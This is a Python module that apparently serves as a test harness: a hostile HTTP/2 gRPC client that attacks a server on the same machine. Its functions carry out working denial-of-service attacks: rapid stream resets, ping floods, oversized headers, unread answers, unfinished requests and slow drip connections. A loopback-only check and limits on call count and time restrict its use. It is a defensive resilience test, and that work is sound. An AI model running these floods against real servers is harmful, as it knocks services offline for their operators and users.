"""A gRPC client that does not follow the rules that protect a server.

It speaks HTTP/2 frames over a plain socket. It can leave answers unread, leave requests unfinished, reset calls as fast
as it opens them, send headers without end, flood the server with pings, or say nothing at all. It ignores the server's
MAX_CONCURRENT_STREAMS; `Seen` counts the calls that the server refuses. It connects to loopback addresses only.

A `HostilePeer` is one connection. Each function after the class makes a whole attack, with a limited number of calls
and for a limited time.
"""

from __future__ import annotations

import asyncio
import contextlib
import enum
import ipaddress
import select
import socket
import struct
import time
from collections import Counter, defaultdict
from collections.abc import AsyncGenerator, Callable, Coroutine, Sequence
from dataclasses import dataclass, field
from typing import Any, TypeVar

from h2.errors import ErrorCodes
from h2.settings import SettingCodes
from hpack import Decoder, Encoder
from hpack.hpack import encode_integer
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

_MAGIC = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADER_BYTES = 9
_READ_BYTES = 1 << 16
# The smallest MAX_FRAME_SIZE that a server may announce (RFC 9113, section 4.2).
_DATA_BYTES_MAX = 16_384
# The prefix of a gRPC message says whether the message is compressed, and how long it is.
_PREFIX_BYTES = 5
# The flow-control window of a new connection, and that of a stream until SETTINGS change it (RFC 9113, section 6.9.2).
DEFAULT_WINDOW_BYTES = 65_535
# How often a peer that does not read checks whether its connection is still open.
_LOOK_S = 0.1
# How many calls a peer opens and resets in one write.
_RESETS_AT_ONCE = 1_000


class Silence(enum.Enum):
    """How much a silent connection sends before it falls silent."""

    CONNECTED = "connected"
    MAGIC = "magic"
    # The whole connection preface: the magic and SETTINGS. The server's pings stay unanswered.
    PREFACE = "preface"


@dataclass(frozen=True, slots=True, kw_only=True)
class GoAway:
    error: ErrorCodes | int
    last_stream: int
    text: str


@dataclass(slots=True, kw_only=True)
class Seen:
    """What one connection saw of its server. A peer that does not read sees only that its connection was closed."""

    # The settings that the server announced, such as MAX_CONCURRENT_STREAMS.
    settings: dict[SettingCodes | int, int] = field(default_factory=dict[SettingCodes | int, int])
    # How many calls ended with each grpc-status.
    statuses: Counter[int] = field(default_factory=Counter[int])
    # How many calls the server reset with each error, without a grpc-status.
    resets: Counter[ErrorCodes | int] = field(default_factory=Counter[ErrorCodes | int])
    # Streams of the calls that have got response headers, but have not ended yet.
    answering: set[int] = field(default_factory=set[int])
    goaway: GoAway | None = None
    # After how many seconds the server ended the connection. None: the server did not end it.
    closed_after_s: float | None = None
    calls_sent: int = 0
    request_bytes_sent: int = 0
    # Bytes of DATA received.
    answer_bytes: int = 0
    # For how many seconds the connection was used.
    lasted_s: float = 0.0


class HostilePeer:
    """One connection, opened by `connect`. A peer that reads answers SETTINGS and PING, so that the server has no
    reason to end the connection except the attack. It never sends WINDOW_UPDATE."""

    def __init__(self, connection: socket.socket, authority: str, *, reads: bool) -> None:
        self.seen = Seen()
        self._socket = connection
        self._authority = authority
        self._loop = asyncio.get_running_loop()
        self._began_s = time.monotonic()
        self._encoder = Encoder()
        self._decoder = Decoder()
        self._writing = asyncio.Lock()
        self._changed = asyncio.Condition()
        # How many bytes this peer may still send on each stream, as the server grants it. Stream 0 stands for the
        # connection.
        self._granted: defaultdict[int, int] = defaultdict(int, {0: DEFAULT_WINDOW_BYTES})
        self._initial_window_bytes = DEFAULT_WINDOW_BYTES
        self._next_stream = 1
        self._pongs = 0
        # Streams that the server has ended or reset.
        self._ended: set[int] = set()
        # Tasks that send the answers to SETTINGS and PING. These are separate tasks because they may have to wait until
        # another write ends, and the peer must read meanwhile.
        self._answers: set[asyncio.Task[None]] = set()
        # The first frame of a header block whose end has not arrived yet, and the bytes of the block until now.
        self._open_block: tuple[HeadersFrame, bytearray] | None = None
        self._watcher = asyncio.create_task(self._read() if reads else self._watch())

    @property
    def closed(self) -> bool:
        return self.seen.closed_after_s is not None

    async def greet(self, *, window_bytes: int) -> None:
        """Sends the connection preface. The server may then send `window_bytes` of each answer."""
        settings = SettingsFrame(settings={SettingCodes.ENABLE_PUSH: 0, SettingCodes.INITIAL_WINDOW_SIZE: window_bytes})
        await self.write(_MAGIC + settings.serialize())

    async def call(
        self,
        path: str,
        message: bytes,
        *,
        ends: bool = True,
        fields: Sequence[tuple[bytes, bytes]] = (),
        compressed: bool = False,
    ) -> int:
        """Sends one call, and returns its stream. If `ends` is False, the request stays open, as the request of a
        stream does. `fields`: further header fields. `compressed`: whether to mark the message as compressed."""
        stream = await self._open(path, fields)
        head = _prefix(len(message), compressed=compressed) + message
        await self._send(stream, head, len(message) + _PREFIX_BYTES, ends=ends)
        return stream

    async def ping(self, count: int) -> None:
        """Sends this many pings at once."""
        await self.write(PingFrame(opaque_data=b"flooding").serialize() * count)

    async def begin(self, path: str, size_bytes: int) -> int:
        """Announces a request of this size, and sends all its bytes except the last, as fast as the server's windows
        allow. Returns the stream."""
        stream = await self._open(path)
        await self._send(stream, _prefix(size_bytes), size_bytes - 1 + _PREFIX_BYTES, ends=False)
        return stream

    async def reset(self, path: str, *, count: int) -> None:
        """Opens `count` calls, and resets each call at once: sends HEADERS and RST_STREAM."""
        # The first block fills the server's HPACK table. All later blocks only refer to the table, and are equal.
        first = self._encoder.encode(self._headers(path))
        block = self._encoder.encode(self._headers(path))
        end = struct.pack(">HBBB", 0, 4, RstStreamFrame.type or 0, 0)
        cancelled = struct.pack(">L", ErrorCodes.CANCEL)
        blocks = [first, *[block] * (count - 1)]
        for start in range(0, count, _RESETS_AT_ONCE):
            frames = bytearray()
            for one in blocks[start : start + _RESETS_AT_ONCE]:
                stream = struct.pack(">L", self._take_stream())
                # END_HEADERS is 0x4.
                frames += struct.pack(">HBBB", len(one) >> 8, len(one) & 0xFF, HeadersFrame.type or 0, 4) + stream + one
                frames += end + stream + cancelled
            await self.write(bytes(frames))

    async def heard(self) -> None:
        """Waits until the server has read everything that this peer has sent, and until the server's answers have
        arrived. Ends early if the server closes the connection."""
        # Send two PINGs, because gRPC writes the answer to a PING before other frames that are ready at the same time,
        # such as resets. But it writes these frames before the answer to the second PING.
        for _ in range(2):
            before = self._pongs
            await self.write(PingFrame(opaque_data=b"heard?  ").serialize())
            async with self._changed:
                while not self.closed and self._pongs == before:
                    await self._changed.wait()

    async def write(self, data: bytes) -> None:
        """Sends bytes as they are. Raises ConnectionError if the server has closed the connection."""
        async with self._writing:
            await self._put(data)

    async def until(self, holds: Callable[[Seen], object], *, within_s: float) -> None:
        """Waits until `holds(self.seen)` is true. Raises TimeoutError."""
        async with asyncio.timeout(within_s), self._changed:
            await self._changed.wait_for(lambda: holds(self.seen))

    async def end(self) -> None:
        """Ends the connection without sending anything."""
        tasks = {self._watcher, *self._answers}
        for task in tasks:
            task.cancel()
        await asyncio.wait(tasks)
        self._socket.close()
        self.seen.lasted_s = time.monotonic() - self._began_s

    async def _open(self, path: str, fields: Sequence[tuple[bytes, bytes]] = ()) -> int:
        # Encode and send a block under one lock, because blocks must arrive in the order in which they changed the
        # HPACK table.
        async with self._writing:
            stream = self._take_stream()
            self._granted[stream] += self._initial_window_bytes
            block = self._encoder.encode(self._headers(path)) + b"".join(_literal(*one) for one in fields)
            await self._put(_header_frames(stream, block))
        return stream

    async def _put(self, data: bytes) -> None:
        """Sends bytes. The caller holds the lock `_writing`."""
        try:
            await self._loop.sock_sendall(self._socket, data)
        except OSError:
            await self._close()
            raise

    async def _send(self, stream: int, head: bytes, size_bytes: int, *, ends: bool) -> None:
        """Sends a body of `size_bytes`: `head`, and then zeros. Sends as fast as the server's windows allow. Stops if
        the server ends the call."""
        sent = 0
        while sent < size_bytes:
            async with self._changed:
                await self._changed.wait_for(
                    lambda: self.closed or stream in self._ended or min(self._granted[0], self._granted[stream]) > 0
                )
            if self.closed or stream in self._ended:
                return
            size = min(size_bytes - sent, _DATA_BYTES_MAX, self._granted[0], self._granted[stream])
            data = head[sent : sent + size].ljust(size, b"\0")
            sent += size
            self._granted[0] -= size
            self._granted[stream] -= size
            frame = DataFrame(stream, data, flags=["END_STREAM"] if ends and sent == size_bytes else ())
            await self.write(frame.serialize())
            self.seen.request_bytes_sent += size

    def _take_stream(self) -> int:
        stream = self._next_stream
        self._next_stream += 2
        self.seen.calls_sent += 1
        return stream

    def _headers(self, path: str) -> list[tuple[str, str]]:
        return [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", path),
            (":authority", self._authority),
            ("te", "trailers"),
            ("content-type", "application/grpc"),
        ]

    async def _read(self) -> None:
        """Reads frames until the connection ends."""
        data = bytearray()
        try:
            while chunk := await self._loop.sock_recv(self._socket, _READ_BYTES):
                data += chunk
                while len(data) >= _HEADER_BYTES:
                    frame, length = Frame.parse_frame_header(memoryview(bytes(data[:_HEADER_BYTES])))
                    if len(data) < _HEADER_BYTES + length:
                        break
                    frame.parse_body(memoryview(bytes(data[_HEADER_BYTES : _HEADER_BYTES + length])))
                    del data[: _HEADER_BYTES + length]
                    self._take(frame)
                async with self._changed:
                    self._changed.notify_all()
        except OSError:
            pass
        await self._close()

    async def _watch(self) -> None:
        """Reads nothing, but notices when the server closes or resets the connection."""
        poll = select.poll()
        poll.register(self._socket, select.POLLRDHUP)
        while not poll.poll(0):  # noqa: ASYNC110 - asyncio can only wait for data, and data stays unread here
            await asyncio.sleep(_LOOK_S)
        await self._close()

    async def _close(self) -> None:
        if not self.closed:
            self.seen.closed_after_s = time.monotonic() - self._began_s
        async with self._changed:
            self._changed.notify_all()

    def _take(self, frame: Frame) -> None:
        seen = self.seen
        match frame:
            case SettingsFrame() if "ACK" not in frame.flags:
                seen.settings |= {_known(SettingCodes, code): value for code, value in frame.settings.items()}
                initial = frame.settings.get(SettingCodes.INITIAL_WINDOW_SIZE, self._initial_window_bytes)
                for stream in self._granted.keys() - {0}:
                    self._granted[stream] += initial - self._initial_window_bytes
                self._initial_window_bytes = initial
                self._answer(SettingsFrame(flags=["ACK"]))
            case PingFrame() if "ACK" in frame.flags:
                self._pongs += 1
            case PingFrame():
                self._answer(PingFrame(opaque_data=frame.opaque_data, flags=["ACK"]))
            case WindowUpdateFrame():
                self._granted[frame.stream_id] += frame.window_increment
            case HeadersFrame():
                self._open_block = frame, bytearray(frame.data)
                self._take_block("END_HEADERS" in frame.flags)
            case ContinuationFrame() if self._open_block is not None:
                self._open_block[1].extend(frame.data)
                self._take_block("END_HEADERS" in frame.flags)
            case DataFrame():
                seen.answer_bytes += len(frame.data)
                if "END_STREAM" in frame.flags:
                    self._end_stream(frame.stream_id)
            case RstStreamFrame():
                # Do not count the reset of a stream that the server has already ended: the server sends it if further
                # frames come on this stream.
                if frame.stream_id not in self._ended:
                    seen.resets[_known(ErrorCodes, frame.error_code)] += 1
                self._end_stream(frame.stream_id)
            case GoAwayFrame():
                error = _known(ErrorCodes, frame.error_code)
                text = frame.additional_data.decode(errors="replace")
                seen.goaway = GoAway(error=error, last_stream=frame.last_stream_id, text=text)
            case _:
                pass

    def _take_block(self, whole: bool) -> None:
        if not whole or self._open_block is None:
            return
        (frame, block), self._open_block = self._open_block, None
        status = dict(self._decoder.decode(bytes(block), raw=True)).get(b"grpc-status")
        if status is not None:
            self.seen.statuses[int(status)] += 1
        if "END_STREAM" in frame.flags:
            self._end_stream(frame.stream_id)
        else:
            self.seen.answering.add(frame.stream_id)

    def _end_stream(self, stream: int) -> None:
        self._ended.add(stream)
        self.seen.answering.discard(stream)

    def _answer(self, frame: Frame) -> None:
        async def write() -> None:
            with contextlib.suppress(OSError):
                await self.write(frame.serialize())

        task = asyncio.create_task(write())
        self._answers.add(task)
        task.add_done_callback(self._answers.discard)


@contextlib.asynccontextmanager
async def connect(address: str, *, reads: bool = True) -> AsyncGenerator[HostilePeer, None]:
    """Opens a connection, and sends nothing. Raises ValueError if the address is not a loopback address."""
    host, _, port = address.rpartition(":")
    if not ipaddress.ip_address(host.strip("[]")).is_loopback:
        raise ValueError(f"{address} is not a loopback address: attacks are for servers on this machine only")
    family = socket.AF_INET6 if host.startswith("[") else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.setblocking(False)
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        await asyncio.get_running_loop().sock_connect(connection, (host.strip("[]"), int(port)))
        peer = HostilePeer(connection, address, reads=reads)
        try:
            yield peer
        finally:
            await peer.end()


@contextlib.asynccontextmanager
async def open_peer(address: str, *, window_bytes: int = 0, reads: bool = True) -> AsyncGenerator[HostilePeer, None]:
    """Opens a connection, and sends its preface. If `reads` is False, everything that the server sends stays in the
    socket."""
    async with connect(address, reads=reads) as peer:
        await peer.greet(window_bytes=window_bytes)
        yield peer


async def leave_answers_unread(
    address: str,
    path: str,
    message: bytes,
    *,
    calls: int,
    connections: int = 1,
    seconds: float,
    reads: bool = True,
    ends: bool = True,
    enough: Callable[[Seen], object] | None = None,
) -> list[Seen]:
    """Makes `calls` calls, spread over the connections, and leaves the answers unread. Keeps the connections open for
    `seconds`, or only until `enough` is true of each connection.

    If `ends` is False, the requests stay open. Use this for Consume: `message` is then the first ConsumeRequest.
    """

    async def attack(peer: HostilePeer, share: int) -> None:
        for _ in range(share):
            await peer.call(path, message, ends=ends)

    shares = _shares(calls, connections)
    # All connections end together, because a connection that ended earlier would free the memory that it uses in the
    # server.
    done = None if enough is None else _Enough(enough, asyncio.Barrier(len(shares)))
    return await asyncio.gather(
        *(_attack(open_peer(address, reads=reads), attack, n, seconds, enough=done) for n in shares)
    )


async def leave_requests_unfinished(
    address: str,
    path: str,
    *,
    size_bytes: int,
    calls: int,
    connections: int = 1,
    seconds: float,
) -> list[Seen]:
    """Begins `calls` requests of `size_bytes` each. Keeps the connections open for `seconds`, and never sends the last
    byte of a request."""

    async def begin(peer: HostilePeer) -> None:
        with contextlib.suppress(OSError):
            await peer.begin(path, size_bytes)

    async def attack(peer: HostilePeer, share: int) -> None:
        async with asyncio.TaskGroup() as group:
            for _ in range(share):
                group.create_task(begin(peer))

    shares = _shares(calls, connections)
    return await asyncio.gather(
        *(_attack(open_peer(address, window_bytes=DEFAULT_WINDOW_BYTES), attack, n, seconds) for n in shares)
    )


async def reset_rapidly(address: str, path: str, *, count: int, connections: int = 1, seconds: float) -> list[Seen]:
    """Opens `count` calls on each connection, and resets each call at once, as fast as the sockets allow. `lasted_s` of
    each connection is the time until the server had read all calls and resets, at most `seconds`."""

    async def attack(peer: HostilePeer, share: int) -> None:
        await peer.reset(path, count=share)
        await peer.heard()

    return await asyncio.gather(
        *(
            _attack(open_peer(address, window_bytes=DEFAULT_WINDOW_BYTES), attack, count, seconds, stays=False)
            for _ in range(connections)
        )
    )


async def send_large_headers(
    address: str,
    path: str,
    *,
    field_bytes: Sequence[int],
    calls: int,
    connections: int = 1,
    seconds: float,
    reads: bool = True,
) -> list[Seen]:
    """Makes `calls` calls, spread over the connections, each with header fields of these sizes. `lasted_s` of each
    connection is the time until the server had read all its calls, at most `seconds`."""
    fields = [(b"x-large", b"x" * size) for size in field_bytes]

    async def attack(peer: HostilePeer, share: int) -> None:
        for _ in range(share):
            await peer.call(path, b"", fields=fields)
        await peer.heard()

    return await asyncio.gather(
        *(
            _attack(open_peer(address, window_bytes=DEFAULT_WINDOW_BYTES, reads=reads), attack, n, seconds, stays=False)
            for n in _shares(calls, connections)
        )
    )


async def flood_with_pings(address: str, *, count: int, connections: int = 1, seconds: float) -> list[Seen]:
    """Sends `count` pings on each connection. Keeps the connection open for `seconds`, or until the server ends it."""

    async def attack(peer: HostilePeer, share: int) -> None:
        await peer.ping(share)

    return await asyncio.gather(
        *(
            _attack(open_peer(address, window_bytes=DEFAULT_WINDOW_BYTES), attack, count, seconds)
            for _ in range(connections)
        )
    )


async def say_nothing(address: str, silence: Silence, *, connections: int, seconds: float) -> list[Seen]:
    """Opens connections that send nothing more after the point `silence`. Keeps them open for `seconds`."""

    async def attack(peer: HostilePeer, _share: int) -> None:
        match silence:
            case Silence.CONNECTED:
                pass
            case Silence.MAGIC:
                await peer.write(_MAGIC)
            case Silence.PREFACE:
                await peer.greet(window_bytes=0)

    return await asyncio.gather(
        *(_attack(connect(address, reads=False), attack, 0, seconds) for _ in range(connections))
    )


async def drip(address: str, path: str, *, connections: int, seconds: float, every_s: float = 1.0) -> list[Seen]:
    """Opens connections that send the preface and the beginning of a call very slowly, one byte every `every_s`."""
    settings = SettingsFrame(settings={SettingCodes.ENABLE_PUSH: 0})
    headers = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", address)]
    call = HeadersFrame(1, Encoder().encode([*headers, ("content-type", "application/grpc")]), flags=["END_HEADERS"])
    said = _MAGIC + settings.serialize() + call.serialize()

    async def attack(peer: HostilePeer, _share: int) -> None:
        for at in range(len(said)):
            await peer.write(said[at : at + 1])
            await asyncio.sleep(every_s)

    return await asyncio.gather(
        *(_attack(connect(address, reads=False), attack, 0, seconds) for _ in range(connections))
    )


@dataclass(frozen=True)
class _Enough:
    """Decides when an attack ends: when `of` has become true of each connection of the attack. The connections wait for
    each other."""

    of: Callable[[Seen], object]
    by_all: asyncio.Barrier


async def _attack(
    opening: contextlib.AbstractAsyncContextManager[HostilePeer],
    attack: Callable[[HostilePeer, int], Coroutine[Any, Any, None]],
    share: int,
    seconds: float,
    *,
    stays: bool = True,
    enough: _Enough | None = None,
) -> Seen:
    """Runs an attack on one connection. Ends after `seconds`, or earlier if the server closes the connection or if
    `enough` is true of each connection. If `stays` is False, also ends when everything has been sent."""
    async with opening as peer:
        with contextlib.suppress(TimeoutError, OSError):
            async with asyncio.timeout(seconds):
                if enough is None:
                    await attack(peer, share)
                    if stays:
                        await peer.until(lambda _: peer.closed, within_s=seconds)
                else:
                    await _until_enough(peer, attack(peer, share), enough, seconds)
        return peer.seen


async def _until_enough(peer: HostilePeer, attack: Coroutine[Any, Any, None], enough: _Enough, seconds: float) -> None:
    attacking = asyncio.create_task(attack)
    try:
        await peer.until(lambda seen: peer.closed or enough.of(seen), within_s=seconds)
        await enough.by_all.wait()
    finally:
        attacking.cancel()
        # The attack may have failed because the connection was closed. Retrieve its error, so that asyncio does not log
        # it.
        await asyncio.wait({attacking})
        if not attacking.cancelled():
            attacking.exception()


def _prefix(size_bytes: int, *, compressed: bool = False) -> bytes:
    """Returns the prefix of a gRPC message."""
    return struct.pack(">BL", compressed, size_bytes)


def _literal(name: bytes, value: bytes) -> bytes:
    """Returns a header field in HPACK that is never indexed, and so changes no table."""
    return b"\x10" + _hpack_string(name) + _hpack_string(value)


def _hpack_string(text: bytes) -> bytes:
    return bytes(encode_integer(len(text), 7)) + text


def _header_frames(stream: int, block: bytes) -> bytes:
    """Returns a header block as HEADERS and CONTINUATION frames."""
    parts = [block[at : at + _DATA_BYTES_MAX] for at in range(0, len(block), _DATA_BYTES_MAX)]
    frames: list[HeadersFrame | ContinuationFrame] = [HeadersFrame(stream, parts[0])]
    frames += [ContinuationFrame(stream, part) for part in parts[1:]]
    frames[-1].flags.add("END_HEADERS")
    return b"".join(frame.serialize() for frame in frames)


def _shares(count: int, ways: int) -> list[int]:
    """Divides a count into `ways` numbers that differ by at most 1."""
    return [count // ways + (at < count % ways) for at in range(ways)]


_Code = TypeVar("_Code", ErrorCodes, SettingCodes)


def _known(codes: type[_Code], code: int) -> _Code | int:
    try:
        return codes(code)
    except ValueError:
        return code
